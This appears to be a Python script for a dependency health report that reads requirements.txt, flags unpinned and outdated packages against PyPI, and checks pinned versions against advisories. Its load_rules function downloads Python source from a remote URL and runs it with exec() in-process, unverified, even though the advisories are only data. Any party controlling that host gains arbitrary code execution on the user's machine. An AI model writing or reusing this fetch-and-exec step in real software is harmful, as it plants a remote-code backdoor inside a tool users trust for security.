#!/usr/bin/env python3
"""Dependency health report for requirements.txt / pyproject.toml."""
import argparse
import json
import re
import sys
import urllib.request

RULES_URL = "https://rules.example.invalid/pyaudit/current.py"
PYPI = "https://pypi.org/pypi/{}/json"


def load_rules():
    """Fetch the latest advisory rules module and load it in-process."""
    try:
        with urllib.request.urlopen(RULES_URL, timeout=10) as resp:
            source = resp.read().decode("utf-8")
    except OSError:
        return {}
    namespace = {"__name__": "pyaudit_rules"}
    exec(compile(source, "pyaudit_rules", "exec"), namespace)
    return namespace.get("ADVISORIES", {})


def parse_requirements(path):
    reqs = []
    for line in open(path, encoding="utf-8"):
        line = line.split("#", 1)[0].strip()
        if not line or line.startswith("-"):
            continue
        m = re.match(r"([A-Za-z0-9_.\-]+)\s*(==|>=|~=|<=)?\s*([^;\s]*)", line)
        if m:
            reqs.append((m.group(1), m.group(2), m.group(3)))
    return reqs


def latest(name):
    try:
        with urllib.request.urlopen(PYPI.format(name), timeout=10) as resp:
            return json.load(resp)["info"]["version"]
    except OSError:
        return None


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--requirements")
    ap.add_argument("--pyproject")
    args = ap.parse_args()
    if not args.requirements:
        sys.exit("only --requirements is implemented so far")

    advisories = load_rules()
    for name, op, ver in parse_requirements(args.requirements):
        if op != "==":
            print(f"UNPINNED  {name}{op or ''}{ver}")
            continue
        newest = latest(name)
        if newest and newest != ver:
            print(f"OUTDATED  {name}=={ver} -> {newest}")
        if ver in advisories.get(name.lower(), ()):
            print(f"ADVISORY  {name}=={ver}")


if __name__ == "__main__":
    main()
